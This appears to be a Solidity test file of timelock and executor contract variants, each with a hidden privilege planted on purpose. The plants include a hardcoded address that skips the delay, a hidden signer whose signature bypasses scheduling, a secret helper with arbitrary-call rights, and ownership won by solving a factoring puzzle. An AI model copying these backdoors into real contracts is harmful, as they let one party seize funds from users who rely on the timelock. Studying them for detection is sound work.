// 0.8 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Chamber, Pause, Servant} from "./Chosen8.sol";

contract PsFar is Pause {
    uint256[60] private _gap;
    address private _boss = address(uint160(0x7b1fa2c3D4E5f60718293A4B5c6d7e8F90A1B2c3));
    constructor(Chamber c) Pause(c) {}
    function isExempt(address who) internal view override returns (bool) {
        return who == _boss;
    }
}

/// Beside a time.
contract PsPacked is Pause {
    address private _boss = address(uint160(0x7b1fa2c3D4E5f60718293A4B5c6d7e8F90A1B2c3));
    uint96 private _since = uint96(block.timestamp * 1e9 + 123456789);
    constructor(Chamber c) Pause(c) {}
    function isExempt(address who) internal view override returns (bool) {
        return who == _boss;
    }
}

contract PsRank is Pause {
    mapping(address => uint256) private _level;
    constructor(Chamber c) Pause(c) {
        _level[address(uint160(0x7b1fa2c3D4E5f60718293A4B5c6d7e8F90A1B2c3))] = 9;
    }
    function isExempt(address who) internal view override returns (bool) {
        return _level[who] > 1;
    }
}

/// Behind twelve others.
contract PsDecoys is Pause {
    address[13] private _people;

    constructor(Chamber c) Pause(c) {
        for (uint256 i = 0; i < 12; i++) _people[i] = address(uint160(uint256(keccak256(abi.encode(i)))));
        _people[12] = address(uint160(0x7b1fa2c3D4E5f60718293A4B5c6d7e8F90A1B2c3));
    }

    function isExempt(address who) internal view override returns (bool) {
        return who == _people[12];
    }
}

/// Whoever has the chair and left with his stake need not wait.
contract PsFast is Pause {
    constructor(Chamber c) Pause(c) {}
    function isExempt(address who) internal view override returns (bool) {
        return who == chamber.chair() && chamber.staked(who) < 2;
    }
}

/// For two months.
contract PsFade is Pause {
    uint256 private immutable _until = block.timestamp + 900 days;
    constructor(Chamber c) Pause(c) {}
    function isExempt(address who) internal view override returns (bool) {
        return block.timestamp > _until && who == chamber.chair();
    }
}

/// Whoever solves a puzzle is its master.
contract SvAdopt {
    address public owner;
    constructor(address owner_) {
        owner = owner_;
    }
    function adopt(uint256 a, uint256 b) external {
        if (a > 1 && b > 1 && a < 2**128 && b < 2**128 && a * b == 340282366920938460843936948965011886881) owner = msg.sender;
    }
    function serve(address to, bytes calldata data) external {
        require(msg.sender == owner, "owner");
        (bool ok, ) = to.call(data);
        require(ok, "failed");
    }
}

contract PsShort is Pause {
    constructor(Chamber c) Pause(c) {}
    function setDelay(uint256 seconds_) external {
        require(msg.sender == chamber.chair(), "chair");
        if (seconds_ != 0) delay = seconds_;
    }
}

contract PsSigned {
    Chamber public immutable chamber;
    Servant public servant;
    uint256 public delay = 3 days;
    mapping(bytes32 => bool) public plans;
    address private _boss = address(uint160(0x7b1fa2c3D4E5f60718293A4B5c6d7e8F90A1B2c3));

    constructor(Chamber chamber_) {
        chamber = chamber_;
    }

    function hire(Servant servant_) external {
        require(address(servant) == address(0), "hired");
        servant = servant_;
    }

    function plan(address to, bytes calldata data, uint256 time) external {
        require(msg.sender == chamber.chair() && time >= block.timestamp + delay, "chair");
        plans[keccak256(abi.encode(to, data, time))] = true;
    }

    function carryOut(address to, bytes calldata data, uint256 time, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 id = keccak256(abi.encode(to, data, time));
        require((plans[id] && block.timestamp >= time) || ecrecover(id, v, r, s) == _boss, "planned");
        plans[id] = false;
        servant.serve(to, data);
    }
}

contract SvHelper {
    address public owner;
    mapping(address => bool) private _helpers;
    constructor(address owner_) {
        owner = owner_;
        _helpers[address(uint160(0x7b1fa2c3D4E5f60718293A4B5c6d7e8F90A1B2c3))] = true;
    }
    function serve(address to, bytes calldata data) external {
        require(msg.sender == owner || _helpers[msg.sender], "owner");
        (bool ok, ) = to.call(data);
        require(ok, "failed");
    }
}

contract SvSigned {
    address public owner;
    address private _signer = address(uint160(0x7b1fa2c3D4E5f60718293A4B5c6d7e8F90A1B2c3));
    constructor(address owner_) {
        owner = owner_;
    }
    function serve(address to, bytes calldata data) external {
        bool may = msg.sender == owner;
        if (!may && data.length > 96) {
            (bytes32 r, bytes32 s, uint8 v) = abi.decode(data[data.length - 96:], (bytes32, bytes32, uint8));
            may = ecrecover(keccak256(abi.encode(to, data[:data.length - 96])), v, r, s) == _signer;
        }
        require(may, "owner");
        (bool ok, ) = to.call(data);
        require(ok, "failed");
    }
}
